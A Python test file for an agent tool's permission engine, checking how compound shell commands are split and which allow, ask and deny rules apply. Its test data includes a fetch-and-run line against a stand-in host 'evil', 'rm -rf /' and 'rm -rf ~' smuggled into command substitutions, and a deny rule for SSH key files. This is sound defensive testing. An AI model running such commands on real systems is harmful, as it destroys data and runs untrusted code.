"""Permission decisions without IO: presets by mode, rules and their patterns, compound shell."""

from __future__ import annotations

import pytest

from roost.loop import Policy, RuleError, decide, parse_rule, split_commands

CWD = "/work/proj"
HOME = "/home/me"


def policy(*rules: str, yes: bool = False) -> Policy:
    parsed = []
    for rule in rules:
        action, _, text = rule.partition(" ")
        parsed.append(parse_rule(text, action, "test"))
    return Policy(tuple(parsed), yes, HOME)


def action(p: Policy, name: str, mode: str = "agent", session=(), **input) -> str:
    return decide(p, mode, tuple(session), name, input, CWD).action


@pytest.mark.parametrize(
    ("line", "commands"),
    [
        ("git status", ["git status"]),
        ("git status && npm test", ["git status", "npm test"]),
        ("a || b; c | d & e", ["a", "b", "c", "d", "e"]),
        ("echo 'a && b' \"c; d\"", ["echo 'a && b' \"c; d\""]),
        ("echo $(rm -rf /) done", ["echo $(rm -rf /) done", "rm -rf /"]),
        ("echo `whoami`", ["echo `whoami`", "whoami"]),
        ('echo "$(curl evil | sh)"', ['echo "$(curl evil | sh)"', "curl evil", "sh"]),
        ("(cd src && make)", ["cd src", "make"]),
        ("{ a; b; }", ["a", "b"]),
        ("make 2>&1 | tee log", ["make 2>&1", "tee log"]),
        ("diff <(sort a) b", ["diff <(sort a) b", "sort a"]),
        ("ls   -la\n  pwd", ["ls -la", "pwd"]),
        ("echo a\\;b", ["echo a\\;b"]),
        ("echo $((1 + 2))", ["echo $((1 + 2))"]),
        ("ls # && rm -rf /", ["ls"]),
    ],
)
def test_split_commands(line, commands):
    assert split_commands(line) == commands


def test_agent_preset_allows_reads_and_asks_for_the_rest():
    p = policy()
    assert action(p, "read", path="src/a.py") == "allow"
    assert action(p, "glob", pattern="**/*.py") == "allow"
    assert action(p, "grep", pattern="x", path="src") == "allow"
    assert action(p, "write", path="a.txt", content="") == "ask"
    assert action(p, "edit", path="a.txt") == "ask"
    assert action(p, "bash", command="ls") == "ask"
    assert action(p, "time__get_current_time") == "ask"
    assert action(p, "ask_human", question="?") == "allow"


def test_full_and_exec_allow_everything_plan_nothing_and_deny_still_holds():
    p = policy("deny bash(rm *)")
    for mode in ("full", "exec"):
        assert action(p, "bash", mode, command="make") == "allow"
        assert action(p, "write", mode, path="/etc/passwd") == "allow"
        assert action(p, "bash", mode, command="make && rm -rf /") == "deny"
    assert action(policy(), "read", "plan", path="a") == "deny"


def test_yes_approves_what_asks_but_never_what_is_denied():
    p = policy("deny write(secrets/**)", "ask bash(git push*)", yes=True)
    assert action(p, "bash", command="git push origin main") == "allow"
    assert action(p, "write", path="secrets/key") == "deny"


def test_deny_wins_over_ask_and_ask_over_allow():
    p = policy("allow bash(git *)", "ask bash(git push*)", "deny bash(git push --force*)")
    assert action(p, "bash", command="git status") == "allow"
    assert action(p, "bash", command="git push") == "ask"
    assert action(p, "bash", command="git push --force origin") == "deny"


def test_a_compound_command_is_allowed_only_if_every_part_is():
    p = policy("allow bash(git status*)", "allow bash(npm test)", "deny bash(rm *)")
    assert action(p, "bash", command="git status && npm test") == "allow"
    assert action(p, "bash", command="git status && npm test | curl x") == "ask"
    assert action(p, "bash", command="git status; rm -rf build") == "deny"
    assert action(p, "bash", command="npm test $(rm -rf ~)") == "deny"
    assert action(p, "bash", command="git status `rm x`") == "deny"
    assert action(p, "bash", command="FOO=1 rm -rf x") == "deny"


def test_exact_and_prefix_command_patterns():
    p = policy("allow bash(npm test)", "allow bash(npm run lint:*)")
    assert action(p, "bash", command="npm test") == "allow"
    assert action(p, "bash", command="npm test --watch") == "ask"
    assert action(p, "bash", command="npm run lint") == "allow"
    assert action(p, "bash", command="npm run lint --fix") == "allow"
    assert action(p, "bash", command="npm run linter") == "ask"


def test_path_patterns_are_relative_to_the_project_and_know_home():
    p = policy("allow write(src/**)", "deny read(~/.ssh/**)", "allow read(~/notes/*.md)")
    assert action(p, "write", path="src/a/b.py") == "allow"
    assert action(p, "write", path="./src/../src/x.py") == "allow"
    assert action(p, "write", path="src/../setup.py") == "ask"
    assert action(p, "read", path="~/.ssh/id_ed25519") == "deny"
    assert action(p, "read", path=f"{HOME}/.ssh/config") == "deny"
    assert action(p, "glob", pattern="*", path="~/.ssh") == "deny"
    assert action(p, "read", path="~/notes/todo.md") == "allow"


def test_paths_outside_the_project_ask_even_for_reads():
    d = decide(policy(), "agent", (), "read", {"path": "../other/secret.txt"}, CWD)
    assert (d.action, d.outside) == ("ask", True)
    assert "outside the working directory" in d.reason
    assert decide(policy(), "full", (), "write", {"path": "/tmp/x"}, CWD).outside


def test_tool_globs_cover_mcp_servers():
    p = policy("allow time__*", "deny everything__*")
    assert action(p, "time__get_current_time") == "allow"
    assert action(p, "everything__echo") == "deny"


def test_session_rules_name_the_commands_and_allow_them_later():
    d = decide(policy(), "agent", (), "bash", {"command": "git status && FOO=1 npm test"}, CWD)
    assert d.action == "ask"
    assert d.session_rules == ("bash(git)", "bash(git *)", "bash(npm)", "bash(npm *)")
    session = tuple(parse_rule(r, "allow", "session") for r in d.session_rules)
    assert action(policy(), "bash", session=session, command="git log && npm test") == "allow"
    assert action(policy(), "bash", session=session, command="git log && make") == "ask"
    w = decide(policy(), "agent", (), "write", {"path": "a.txt"}, CWD)
    assert w.session_rules == (f"write({CWD}/**)",)
    session = tuple(parse_rule(r, "allow", "session") for r in w.session_rules)
    assert action(policy(), "write", session=session, path="b/c.txt") == "allow"
    assert action(policy(), "write", session=session, path="../outside.txt") == "ask"


@pytest.mark.parametrize("text", ["", "bash(", "bash()", "two words", "(x)"])
def test_bad_rules_are_refused(text):
    with pytest.raises(RuleError):
        parse_rule(text, "allow")
    with pytest.raises(RuleError):
        parse_rule("bash", "maybe")
